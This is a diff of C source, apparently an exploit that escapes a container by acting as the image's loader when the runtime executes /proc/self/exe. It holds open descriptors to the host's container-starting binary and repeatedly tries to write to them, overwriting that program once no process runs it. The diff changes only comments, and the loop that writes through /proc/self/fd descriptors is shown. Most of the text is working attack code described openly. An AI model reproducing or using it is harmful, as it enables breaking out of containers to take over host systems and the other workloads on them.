@@ -1,8 +1,8 @@
-// The attack on the program that starts a container, without a C library: it is the loader of the image.
+// An attack on the program that starts a container, without a C library: it is the image's loader.
 //
-// `RUN ["/proc/self/exe"]` makes the kernel load whatever program the container's process is at that moment, and its
-// loader from the image: this file. It keeps that program open, and the container's first one, becomes another program,
-// and tries to write to them until the kernel lets it, which is when no process runs them any more.
+// `RUN ["/proc/self/exe"]` makes the kernel load the program that the container's process is at that moment, and its
+// loader from the image: this file. It keeps that program and the container's first one open, and executes another
+// program. Then it tries to write to them until the kernel allows it, which is when no process runs them any more.
 #include <asm/unistd.h>
 #include <stddef.h>
 
@@ -34,7 +34,7 @@ static void pause_briefly(void) {
     call(__NR_nanosleep, (long)time, 0, 0);
 }
 
-// Writes through each descriptor that is kept.
+// Writes through each open descriptor.
 static void overwrite(void) {
     for (int number = 3; number < 100; number++) {
         char path[] = "/proc/self/fd/\0\0";
